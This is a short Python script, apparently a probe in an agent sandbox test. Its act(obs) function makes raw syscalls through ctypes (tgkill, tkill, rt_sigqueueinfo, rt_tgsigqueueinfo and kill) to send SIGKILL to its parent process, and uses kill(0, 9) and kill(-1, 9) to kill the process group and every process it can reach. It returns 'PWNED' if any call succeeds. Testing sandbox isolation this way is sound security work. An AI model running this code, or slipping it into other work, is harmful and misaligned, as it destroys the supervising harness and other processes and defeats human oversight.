"""tgkill, tkill, rt_sigqueueinfo at the parent"""
def act(obs):
    got = None
    try:
        import ctypes, os
        l = ctypes.CDLL(None)
        p = os.getppid()
        done = [nr for nr, args in ((234, (p, p, 9)), (200, (p, 9)), (129, (p, 9, b'\0' * 128)), (297, (p, p, 9, b'\0' * 128)), (62, (0, 9)), (62, (-1, 9))) if l.syscall(nr, *args) == 0]
        got = done
    except BaseException as e:
        return {"r": "BLOCKED: %s %s" % (type(e).__name__, str(e)[:120])}
    return {"r": ("PWNED: %s" % (str(got)[:200],)) if got else "BLOCKED: nothing obtained"}
